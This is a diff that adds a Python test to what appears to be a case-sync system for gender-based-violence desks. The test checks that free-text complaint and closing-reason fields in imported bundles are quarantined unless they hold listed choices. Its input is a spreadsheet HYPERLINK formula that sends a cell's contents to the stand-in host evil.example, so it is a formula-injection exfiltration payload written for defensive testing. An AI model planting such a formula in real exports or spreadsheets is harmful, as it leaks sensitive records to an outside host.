@@ -636,3 +636,29 @@ def test_a_case_that_never_travelled_sends_no_tombstone(env):
         {"uuid": shared, "hlc": hlc, "origin_device": quetta.device_id, "deleted": 1}]
     env.import_(withdrawn)
     assert case_rows(env.centre, shared) == {"desk_cases": [], "desk_case_perpetrators": [], "desk_case_services": []}
+
+
+# -- low: the travelling free-text fields are list values, whatever the type or status ---------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
+
+
+def test_free_text_in_the_complaint_or_closing_reason_of_a_case_is_quarantined(env):
+    """``non_gbv_complaint`` was checked only on a non-GBV case and ``closing_reason`` only on a closed one:
+    a correctly signed bundle carried any text (a spreadsheet formula, a name) to the centre in them."""
+    case = quetta_case(env)["desk_cases"][0]
+    assert (case["gbv_type"], case["status"]) != ("non_gbv", "closed")
+    complaint = {**case, "uuid": str(uuid.uuid4()), "hlc": version_now(), "non_gbv_complaint": FORMULA,
+                 "case_number": case["case_number"].replace("-0001@", "-0002@")}
+    reason = {**case, "uuid": str(uuid.uuid4()), "hlc": version_now(), "status": "open", "closing_reason": FORMULA,
+              "case_number": case["case_number"].replace("-0001@", "-0003@")}
+    choices = {name: ", ".join(env.centre.catalogue.list_codes(name)) for name in ("non_gbv_complaint", "closing_reason")}
+    assert_only_quarantined(env, env.bundle("A", {"desk_cases": [complaint, reason]}), [
+        ("desk_cases", complaint["uuid"], [
+            f"'{FORMULA}' is not a choice for kind of non-GBV complaint. Choose one of: {choices['non_gbv_complaint']}.",
+            f"The case is classified as {case['gbv_type']}, not non-GBV, but has the non-GBV complaint '{FORMULA}'. "
+            "Clear the kind of complaint, or check the classification."]),
+        ("desk_cases", reason["uuid"], [
+            f"'{FORMULA}' is not a choice for closing reason. Choose one of: {choices['closing_reason']}.",
+            f"The case is not closed but has the closing reason '{FORMULA}'. Clear the closing reason, or close the "
+            "case."])])
